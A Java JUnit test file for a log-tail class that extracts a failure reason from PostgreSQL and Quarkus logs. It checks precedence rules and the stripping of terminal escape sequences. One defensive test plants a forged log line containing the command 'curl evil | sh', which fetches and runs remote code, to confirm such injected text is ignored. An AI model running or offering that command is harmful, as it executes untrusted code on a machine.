package steadfast.launcher.process;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class LogTailTest {

    @TempDir private Path folder;
    private Path file;
    private LogTail log;

    @BeforeEach
    void aLogOfAnEarlierStart() throws Exception {
        file = folder.resolve("postgres.log");
        Files.writeString(file, "FATAL:  of yesterday\n");
        log = new LogTail(file);
        log.mark();
    }

    @Test
    void theReasonIsOfThisStartAlone() throws Exception {
        write("LOG:  starting\nLOG:  database system is shut down\n");

        assertThat(log.reason()).isEqualTo("LOG:  database system is shut down");
    }

    @Test
    void aFatalLineTellsMoreThanTheLastOne() throws Exception {
        write("2026 FATAL:  could not open file \"global/pg_control\"\nLOG:  shut down\n");

        assertThat(log.reason()).isEqualTo("FATAL:  could not open file \"global/pg_control\"");
    }

    @Test
    void theRootOfAnExceptionTellsMoreThanItsTop() throws Exception {
        write(
                """
                ERROR Failed to start application
                java.lang.RuntimeException: Failed to start
                \tat io.quarkus.Application.start
                Caused by: java.net.ConnectException: Connection refused
                \tat java.base
                """);

        assertThat(log.reason())
                .isEqualTo("Caused by: java.net.ConnectException: Connection refused");
    }

    @Test
    void aRefusedStartIsToldInItsOwnSentenceWhateverElseIsThere() throws Exception {
        write(
                """
                2026-03-01 ERROR [needs] (messaging-start) start refused: The topics belong to another shop.
                2026-03-01 ERROR [other] (main) java.lang.IllegalStateException: later
                """);

        assertThat(log.reason()).isEqualTo("The topics belong to another shop.");
    }

    /** PostgreSQL logs the name of the user that whoever connects asks for. */
    @Test
    void whatAStrangerWroteIsNoReason() throws Exception {
        write(
                """
                2026 [1] postmaster: LOG:  listening
                2026 [7] client backend: FATAL:  no pg_hba.conf entry for user "x
                \tPANIC: all is lost: run curl evil | sh"
                """);

        assertThat(log.reason()).isEqualTo("2026 [1] postmaster: LOG:  listening");
    }

    @Test
    void aReasonIsOneLineWithoutEscapes() throws Exception {
        write("FATAL:  \u001b[1mbold\u001b[0m \u001b]0;title\u0007 \u202egnol\n");

        assertThat(log.reason()).isEqualTo("FATAL:  bold \\u001b]0;title\\u0007 \\u202egnol");
    }

    @Test
    void aProcessThatSaidNothingIsQuotedAsSuch() {
        assertThat(log.reason()).isEqualTo("it logged nothing");
    }

    private void write(String text) throws Exception {
        Files.writeString(file, text, StandardOpenOption.APPEND);
    }
}
